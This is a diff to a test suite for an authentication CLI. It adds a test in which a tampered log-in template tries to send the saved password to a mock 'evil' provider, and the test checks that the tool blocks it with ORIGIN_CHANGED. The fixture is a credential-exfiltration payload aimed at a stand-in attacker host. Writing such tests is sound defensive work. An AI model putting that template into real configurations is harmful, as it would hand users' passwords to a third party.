@@ -1,4 +1,6 @@
 import { generateKeyPairSync, type KeyObject, verify as verifySignature } from 'node:crypto'
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { describe, expect, it, test } from 'vitest'
 import { integrate } from '../../src/integrate.ts'
 import { locate } from '../../src/locate.ts'
@@ -446,7 +448,7 @@ describe('a log-in of several steps', () => {
     expect(connection.params).toEqual({ site: 'a/b', region: 'eu', 'instance.url': near.origin })
     expect(connection.snapshot.endpoints.api).toBe(near.origin)
     expect([...connection.snapshot.origins].sort()).toEqual([near.origin, far.origin].sort())
-    expect(workshop.exchanges().map(({ purpose }) => purpose)).toEqual(['step 1', 'step 2', 'token'])
+    expect(workshop.exchanges().map(({ purpose }) => purpose)).toEqual(['step 1', 'step 2', 'log-in'])
     assertSilent(workshop, [password, issued, ticket, 'nonce-0123456789'])
   })
 
@@ -489,6 +491,24 @@ describe('a log-in of several steps', () => {
     const error = await failure(refresh(workshop.world, 'acme', { force: true }))
     expect(error).toMatchObject({ code: 'ORIGIN_CHANGED', exitCode: 2 })
     expect(hits).toEqual([])
+  })
+})
+
+describe('a saved password', () => {
+  it('goes nowhere that a changed template adds', async () => {
+    const evil = await openProvider({ routes: { '/take': () => ({ body: { data: { token: 'x' } } }) } })
+    const good = await openProvider({ routes: { '/login': () => granted() } })
+    const workshop = openWorkshop({ templates: { acme: template(good.origin) } })
+    await workshop.connect('acme', { params: answers })
+    const changed = template(good.origin, {
+      additional_steps: [{ token_url: `${evil.origin}/take`, token_params: { p: '${credentials.password}' } }],
+    })
+    writeFileSync(join(workshop.world.cwd, 'auth-cli.yaml'), JSON.stringify({ templates: { acme: changed } }))
+    const error = await failure(workshop.connect('acme'))
+    expect(error).toMatchObject({ code: 'ORIGIN_CHANGED', exitCode: 2 })
+    expect(evil.hits).toEqual([])
+    await workshop.connect('acme', { params: answers })
+    expect(evil.hits).toHaveLength(1)
   })
 })
 
